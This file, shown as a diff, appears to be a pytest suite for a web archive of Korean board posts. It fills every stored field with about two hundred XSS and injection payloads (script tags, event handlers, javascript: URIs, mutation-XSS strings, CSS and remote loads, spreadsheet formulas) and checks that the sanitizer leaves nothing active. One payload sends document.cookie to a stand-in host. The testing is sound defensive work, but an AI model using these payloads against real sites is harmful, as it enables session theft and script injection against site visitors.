@@ -1,0 +1,250 @@
+"""Nothing that a board says becomes active in a reader's browser, wherever it is shown."""
+
+from __future__ import annotations
+
+import asyncio
+import itertools
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from sample_archive import KO, Sample, png
+from selectolax.lexbor import LexborHTMLParser, LexborNode
+
+from publish import safe
+from publish.server import settings
+
+
+def payloads() -> Iterator[str]:
+    """Some two hundred ways to put a script, a style or a request into a page."""
+    calls = ("alert(1)", "fetch('//x.invalid/'+document.cookie)")
+    for call in calls:
+        yield from (
+            f"<script>{call}</script>",
+            f"<SCRIPT\n>{call}</SCRIPT\t>",
+            f"<scr<script>ipt>{call}</scr</script>ipt>",
+            f"</title><script>{call}</script>",
+        )
+        yield from (
+            f'"><script>{call}</script>',
+            f"'><script>{call}</script>",
+            f"</textarea><script>{call}</script>",
+            f"--><script>{call}</script><!--",
+        )
+        yield from (
+            f"]]><script>{call}</script>",
+            f"<noscript><p title='</noscript><img src=x onerror={call}>'>",
+            f"<template><script>{call}</script></template>",
+        )
+    elements = (
+        "img src=x",
+        "svg",
+        "body",
+        "video src=x",
+        "audio src=x",
+        "input autofocus",
+        "details open",
+        "marquee",
+        "a href=x",
+        "div tabindex=1",
+        "iframe",
+        "math",
+    )
+    events = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "ONERROR")
+    yield from (f"<{element} {event}=alert(1)>" for element, event in itertools.product(elements, events))
+    schemes = (
+        "javascript:",
+        "JaVaScRiPt:",
+        "java\tscript:",
+        "java\nscript:",
+        "\x01javascript:",
+        " javascript:",
+        "&#106;avascript:",
+        "javascript&colon;",
+        "vbscript:",
+    )
+    yield from (f"<a href='{scheme}alert(1)'>x</a>" for scheme in schemes)
+    yield from (f"{scheme}alert(1)" for scheme in schemes)
+    yield from (
+        f"<a href='{address}'>x</a>"
+        for address in ("data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "blob:x", "view-source:x", "ftp://x")
+    )
+    yield from ("<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg/onload=alert(1)>")
+    yield from ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>")
+    yield from ("<style>*{background:url(//x.invalid)}</style>", "<p style='background:url(//x.invalid)'>", "<link rel=stylesheet href=//x.invalid>")
+    yield from (
+        "<iframe src=//x.invalid></iframe>",
+        "<iframe srcdoc='<script>alert(1)</script>'>",
+        "<object data=//x.invalid>",
+        "<embed src=//x.invalid>",
+    )
+    yield from (
+        "<meta http-equiv=refresh content='0;url=//x.invalid'>",
+        "<base href=//x.invalid>",
+        "<form action=//x.invalid><button>x",
+        "<isindex action=//x>",
+    )
+    yield from (
+        "<img src=//x.invalid/p.gif>",
+        "<img srcset='//x.invalid 1x'>",
+        "<picture><source srcset=//x.invalid></picture>",
+        "<input type=image src=//x.invalid>",
+    )
+    yield from (
+        "<img src='/-/capture/1/payload'>",
+        "<a href='//x.invalid' target=_top>x</a>",
+        "<a ping=//x.invalid href=//y.invalid>x</a>",
+        "<table background=//x.invalid>",
+    )
+    yield from (
+        "{{ 7*7 }}{% raw %}",
+        "${7*7}",
+        '=HYPERLINK("//x.invalid")',
+        "@SUM(1)|cmd",
+        "+82-2-000",
+        "\u202egnp.exe",
+        "%3Cscript%3E",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+    )
+    yield from (
+        "<p>" * 400,
+        "<div>" * 400,
+        "<<<<>>>>",
+        "<!--",
+        "<![CDATA[",
+        "<?php",
+        "\x00<scr\x00ipt>",
+        "＜script＞alert(1)＜/script＞",
+        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+    )
+
+
+_DEAD = (
+    "script, style, link:not([rel=stylesheet]), iframe, object, embed, svg, math, base, meta[http-equiv], frame, frameset, applet, video, audio,"
+    " source, template, noscript"
+)
+_NAMES = {"q", "board", "year", "author", "state"}
+
+
+def active(page: LexborHTMLParser) -> Iterator[str]:
+    """Whatever in a page could run, style, load from elsewhere or lead where no reader should go."""
+    yield from (f"<{node.tag}>" for node in page.css(_DEAD))
+    for node in page.css("*"):
+        for name, value in node.attributes.items():
+            yield from _active_attribute(node, name.lower(), value or "")
+
+
+def _active_attribute(node: LexborNode, name: str, value: str) -> Iterator[str]:
+    if name.startswith("on") or name in ("style", "srcset", "background", "ping", "formaction", "target", "srcdoc", "data", "xlink:href", "poster"):
+        yield f"{name} on <{node.tag}>"
+    if name == "src" and not value.startswith(("/-/logo/", "/-/attachment/")):
+        yield f"src={value}"
+    if name == "action" and not value.startswith("/-/"):
+        yield f"action={value}"
+    if name == "name" and node.tag in ("input", "select") and value not in _NAMES:
+        yield f"field {value}"
+    if name == "href":
+        parts = urlsplit(value.strip())
+        if parts.scheme not in ("", "http", "https", "mailto", "tel"):
+            yield f"href={value}"
+        if parts.scheme in ("http", "https") and "noopener" not in (node.attributes.get("rel") or ""):
+            yield f"unmarked link {value}"
+        if (not parts.scheme and not value.startswith(("/", "#"))) or value.startswith("//"):
+            yield f"href={value}"
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Sample:
+    """An archive in which every text from outside is a payload, in every field in turn."""
+    sample = Sample(tmp_path_factory.mktemp("hostile"))
+    sample.board(KO, "<script>alert(1)</script>", "ko", 3)
+    sample.conn.execute("UPDATE boards SET publisher = ?, url = 'javascript:alert(1)', site = ?", ("<img src=x onerror=alert(1)>", "\"onload='"))
+    crawl = sample.crawl(KO, "failed", "<svg onload=alert(1)>")
+    for number, text in enumerate(payloads()):
+        more = {"posted_raw": text, "category": text, "modified_at": text, "url": text if number % 2 else f"https://www.seoulsolution.kr/{number}"}
+        post = sample.post(crawl, KO, str(number), text, text, text, author=text, state="listed" if number % 5 else "gone", **more)
+        if number % 3 == 0:
+            sample.revise(crawl, post, title=text + text, body_text=text * 2 + "\n서울", body_html=f"<p>{text}</p>", author="다른 사람")
+        sample.attach(crawl, post, text, text, b"<script>alert(1)</script>", "text/html")
+        sample.event(crawl, post, "gone", **{text: text})
+        (capture,) = sample.conn.execute("SELECT capture FROM posts WHERE id = ?", (post,)).fetchone()
+        sample.insert("absences", post=post, crawl=crawl, at=sample.now(), evidence=text, capture=capture)
+        sample.insert("comments", post=post, native_id="1", author=text, posted_at=text, body_text=text, state="present", capture=capture)
+        sample.insert(
+            "issues", crawl=crawl, board=KO, url=text, kind=text, message=text, selector=text, expected=text, found=text, at=text, capture=capture
+        )  # fmt: skip
+        logo = b"<svg onload='alert(1)'/>" if number % 2 else png(2, 2, (0, 0, 0))
+        sample.partner(crawl, KO, text, logo, alt=text, url=text, logo_url=text, description=text)
+    return sample.close()
+
+
+def test_there_are_enough_payloads() -> None:
+    assert len(set(payloads())) >= 150
+
+
+def test_nothing_hostile_is_active_on_any_page(hostile: Sample) -> None:
+    served = settings(hostile.archive)
+    count = len(list(payloads()))
+    paths = ["/", "/-/crawls", f"/-/partners/{KO}", "/-/search?q=alert", "/-/search?q=%3Cscript%3Ealert(1)%3C/script%3E"]
+    paths += [
+        f"{path}page={page}" for path in (f"/-/board/{KO}?", "/-/issues?", "/-/changes?", "/-/search?q=script&") for page in range(1, count // 30 + 3)
+    ]
+    for post in range(1, count + 1):
+        paths += [f"/-/post/{post}", f"/-/post/{post}?version=1", f"/-/post/{post}/evidence"]
+        paths += [f"/-/post/{post}/compare/1/2", f"/-/post/{post}/compare/1/2?view=inline"] if post % 3 == 1 else []
+    paths += [f"/-/capture/{capture}" for capture in range(1, 4 * count)]
+
+    async def check() -> None:
+        for path in paths:
+            answer = await served.client.get(path)
+            assert answer.status_code == 200, path
+            assert list(active(LexborHTMLParser(answer.text))) == [], path
+
+    asyncio.run(check())
+
+
+def test_files_and_logos_are_never_documents(hostile: Sample) -> None:
+    served = settings(hostile.archive)
+
+    async def check() -> None:
+        for number in range(1, len(list(payloads())) + 1):
+            file, image, logo = [
+                await served.client.get(f"/-/{path}") for path in (f"attachment/{number}", f"attachment/{number}/image", f"logo/{number}")
+            ]
+            assert file.headers["content-type"] == "application/octet-stream"
+            assert file.headers["content-disposition"].startswith("attachment; filename=")
+            assert "\n" not in file.headers["content-disposition"]
+            assert image.status_code == 404
+            assert (logo.status_code, logo.headers["content-type"]) in ((200, "image/png"), (404, "text/html; charset=utf-8"))
+
+    asyncio.run(check())
+
+
+@pytest.mark.parametrize("payload", list(payloads()))
+def test_a_cleaned_body_holds_nothing_active(payload: str) -> None:
+    for markup in (payload, f"<p>{payload}</p>", f"<table><tr><td>{payload}", f"<b><i>{payload}</b></i>", payload * 3):
+        cleaned = safe.body(markup, "https://www.seoulsolution.kr/ko/node/1", {"https://www.seoulsolution.kr/x": "/-/attachment/1/image"})
+        if cleaned is not None:
+            assert list(active(LexborHTMLParser(f"<div>{cleaned}</div>"))) == []
+
+
+def test_the_check_itself_finds_what_is_active() -> None:
+    for markup in (
+        "<script></script>",
+        "<p onclick=x>",
+        "<img src=//x>",
+        "<a href=javascript:x>",
+        "<a href=https://x/>x</a>",
+        "<form action=//x>",
+        "<p style=x>",
+    ):
+        assert list(active(LexborHTMLParser(markup))), markup
+
+
+def test_titles_of_datasettes_tables_are_escaped(hostile: Sample, tmp_path: Path) -> None:
+    served = settings(hostile.archive)
+    answer = asyncio.run(served.client.get("/archive/posts?_col=title&_col=author"))
+    page = LexborHTMLParser(answer.text)
+    assert not [node for node in page.css("script") if "alert(1)" in node.text()]
+    assert not page.css("[onerror], [onload], svg[onload], iframe")
